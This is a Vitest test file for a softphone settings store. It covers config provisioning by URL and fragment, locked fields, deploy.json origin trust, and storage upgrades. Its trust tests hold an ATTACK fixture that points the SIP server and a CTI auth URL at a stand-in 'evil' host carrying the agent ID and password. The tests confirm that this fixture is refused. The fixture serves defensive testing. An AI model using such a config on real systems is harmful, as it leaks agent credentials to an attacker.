import { describe, expect, it } from 'vitest'
import { cloneJson } from '@/settings/paths'
import { encodeBase64Url } from '@/settings/provisioning'
import { defaultSettings } from '@/settings/settings'
import { fakePorts } from '@/testing/fake-ports'
import { setupStores } from '@/testing/setup-store'
import { SETTINGS_KEY, UNREADABLE_KEY, useSettingsStore } from './settings'

const CONFIG_URL = 'http://it.test/provision/1001.json'
const DOC = {
  version: 1,
  sip: { server: 'wss://pbx.test/ws', domain: 'pbx.test', user: '1001', password: 'sip-pw' },
  popup: { anonymousLabel: '非通知' },
  locked: ['sip.server', 'popup.size'],
}

/** A browser: storage survives "reloads" (new Pinia, same ports) of the page at `href`. */
function browser() {
  const fake = fakePorts()
  fake.deploy({ provisioning: { origins: ['http://it.test'], hashConfig: 'any' } })
  return {
    fake,
    async open(href = `http://127.0.0.1/?config=${encodeURIComponent(CONFIG_URL)}`) {
      fake.ports.location = { href }
      setupStores(fake.ports)
      const store = useSettingsStore()
      await store.load()
      return store
    },
  }
}

describe('settings store: provisioning', () => {
  it('keeps an agent’s change of an unlocked field across a reload of the same link, and locked values always', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, DOC)
    let store = await b.open()
    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
    expect(store.isLocked('sip.server')).toBe(true)
    const edited = cloneJson(store.settings)
    edited.popup.anonymousLabel = 'Withheld'
    edited.popup.size = 'large'
    edited.sip.server = 'wss://elsewhere/ws'
    expect(await store.update(edited)).toMatchObject({ ok: true })
    expect(store.settings.popup).toMatchObject({ anonymousLabel: 'Withheld', size: 'standard' })
    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')

    store = await b.open()
    expect(store.settings.popup.anonymousLabel).toBe('Withheld')
    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
    // Without ?config= the saved settings are used, locks included.
    store = await b.open('http://127.0.0.1/')
    expect(store.settings.popup.anonymousLabel).toBe('Withheld')
    expect(store.locked).toEqual(['sip.server', 'popup.size'])
  })

  it('applies a changed document over the agent’s change', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, DOC)
    let store = await b.open()
    await store.update({ ...cloneJson(store.settings), popup: { ...store.settings.popup, anonymousLabel: 'Withheld' } })
    b.fake.respond(CONFIG_URL, { ...DOC, popup: { anonymousLabel: '番号非通知' } })
    store = await b.open()
    expect(store.settings.popup.anonymousLabel).toBe('番号非通知')
  })

  it('reads #config=<base64url JSON>', async () => {
    const b = browser()
    const store = await b.open(`http://127.0.0.1/#config=${encodeBase64Url(JSON.stringify(DOC))}`)
    expect(store.settings.sip.user).toBe('1001')
    expect(store.provisioning?.source).toBe('#config')
    expect(store.problems).toEqual([])
  })

  it('keeps the saved settings and says why when the document cannot be loaded or is wrong', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, DOC)
    await b.open()
    b.fake.respond(CONFIG_URL, new Error('Failed to fetch'))
    let store = await b.open()
    expect(store.problems).toEqual([{ kind: 'provisioning-fetch', url: CONFIG_URL, message: 'Failed to fetch' }])
    expect(store.settings.sip.user).toBe('1001')
    b.fake.respond(CONFIG_URL, { sip: { server: 'http://pbx' } })
    store = await b.open()
    expect(store.problems[0]).toMatchObject({ kind: 'provisioning-invalid', errors: [{ path: 'sip.server' }] })
    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
    store = await b.open('http://127.0.0.1/#config=!!')
    expect(store.problems[0]).toMatchObject({ kind: 'provisioning-fetch', url: '#config' })
  })
})

describe('settings store: trust (deploy.json)', () => {
  const ATTACK = { sip: { server: 'wss://evil/ws' }, cti: { accesses: { auth: { method: 'get-internal', url: 'https://evil/c?u={AID}&p={APW}' } } }, locked: ['cti'] }

  it('never fetches a ?config= from an origin deploy.json does not list, saves nothing and says why', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, DOC)
    await b.open()
    const before = cloneJson(b.fake.store.get(SETTINGS_KEY))
    const fetched: string[] = []
    const fetch = b.fake.ports.fetch
    b.fake.ports.fetch = (async (input: string, init?: RequestInit) => { fetched.push(String(input)); return fetch(input, init) }) as typeof fetch
    b.fake.respond('https://evil.test/c.json', ATTACK)
    const store = await b.open(`http://127.0.0.1/?config=${encodeURIComponent('https://evil.test/c.json')}`)
    expect(fetched).toEqual(['http://127.0.0.1/deploy.json'])
    expect(store.problems).toEqual([{ kind: 'provisioning-refused', url: 'https://evil.test/c.json', refusal: { reason: 'origin', origin: 'https://evil.test' } }])
    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
    expect(b.fake.store.get(SETTINGS_KEY)).toEqual(before)
  })

  it('refuses #config= when deploy.json does not turn it on (the default), and a lower-trust link cannot unlock IT’s keys', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, DOC)
    await b.open()
    const before = cloneJson(b.fake.store.get(SETTINGS_KEY))
    const link = `http://127.0.0.1/#config=${encodeBase64Url(JSON.stringify({ ...ATTACK, locked: [] }))}`
    b.fake.deploy({})
    let store = await b.open(link)
    expect(store.problems).toEqual([{ kind: 'provisioning-refused', url: '#config', refusal: { reason: 'hash-off' } }])
    expect(b.fake.store.get(SETTINGS_KEY)).toEqual(before)
    // "any": the link applies to unlocked keys only; sip.server stays IT's, and so do the locks.
    b.fake.deploy({ provisioning: { hashConfig: 'any' } })
    store = await b.open(link)
    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
    expect(store.locked).toEqual(['sip.server', 'popup.size'])
    expect(store.problems).toEqual([{ kind: 'provisioning-kept-locked', url: '#config', paths: ['sip.server', 'locked'] }])
  })

  it('a malformed deploy.json means the strictest defaults, and says so', async () => {
    const b = browser()
    b.fake.deploy('{"provisioning": ')
    b.fake.respond(CONFIG_URL, DOC)
    const store = await b.open()
    expect(store.problems.map((p) => p.kind)).toEqual(['deploy-invalid', 'provisioning-refused'])
    expect(store.settings.sip.server).toBe('')
  })

  it('a lock on an inherited name is refused as a field error, and the phone starts', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, { ...DOC, locked: ['constructor'] })
    const store = await b.open()
    expect(store.problems[0]).toMatchObject({ kind: 'provisioning-invalid', errors: [{ path: 'locked.0', code: 'lock-path' }] })
    expect(store.loaded).toBe(true)
  })
})

describe('settings store: storage', () => {
  it('upgrades a record saved by an older release and writes it back in the current schema', async () => {
    const b = browser()
    b.fake.store.set(SETTINGS_KEY, { ...defaultSettings(), sip: { ...defaultSettings().sip, user: '1001' } })
    const store = await b.open('http://127.0.0.1/')
    expect(store.settings.sip.user).toBe('1001')
    expect(b.fake.store.get(SETTINGS_KEY)).toMatchObject({ schema: 2, settings: { sip: { user: '1001' } } })
  })

  it.each([
    ['newer', { schema: 9, settings: {} }],
    ['corrupt', { schema: 2, settings: { sip: 'x' } }],
  ])('reports a %s record and never writes over it until the agent chooses to', async (kind, raw) => {
    const b = browser()
    b.fake.store.set(SETTINGS_KEY, raw)
    b.fake.respond(CONFIG_URL, DOC)
    const store = await b.open()
    expect(store.saved.kind).toBe(kind)
    // Provisioning still works for this session…
    expect(store.settings.sip.user).toBe('1001')
    await store.saveAgent({ id: 'a', password: '' })
    // …but the record is untouched.
    expect(b.fake.store.get(SETTINGS_KEY)).toEqual(raw)
    await store.replaceUnreadable()
    expect(b.fake.store.get(UNREADABLE_KEY)).toEqual(raw)
    expect(b.fake.store.get(SETTINGS_KEY)).toMatchObject({ schema: 2, settings: { agent: { id: 'a' } } })
  })

  it('remembers the agent’s password only when asked, and signing out forgets it', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, DOC)
    let store = await b.open()
    await store.saveAgent({ id: 'agent01', password: 'pass01' })
    store = await b.open()
    expect(store.settings.agent).toEqual({ id: 'agent01', password: 'pass01' })
    await store.forgetAgentPassword()
    store = await b.open()
    expect(store.settings.agent).toEqual({ id: 'agent01', password: '' })
  })

  it('an import that is wrong changes nothing; a good one is saved, locked keys kept', async () => {
    const b = browser()
    b.fake.respond(CONFIG_URL, DOC)
    const store = await b.open()
    const before = cloneJson(store.settings)
    const bad = await store.importText('{"popup": {"size": "large", "displaySeconds": "5"}}')
    expect(bad).toMatchObject({ ok: false, errors: [{ path: 'popup.displaySeconds' }] })
    expect(store.settings).toEqual(before)
    const good = await store.importText('{"popup": {"size": "large", "displaySeconds": 5}}')
    expect(good).toEqual({ ok: true, keptLocked: ['popup.size'] })
    expect(store.settings.popup).toMatchObject({ size: 'standard', displaySeconds: 5 })
    expect(b.fake.store.get(SETTINGS_KEY)).toMatchObject({ settings: { popup: { displaySeconds: 5 } } })
  })
})
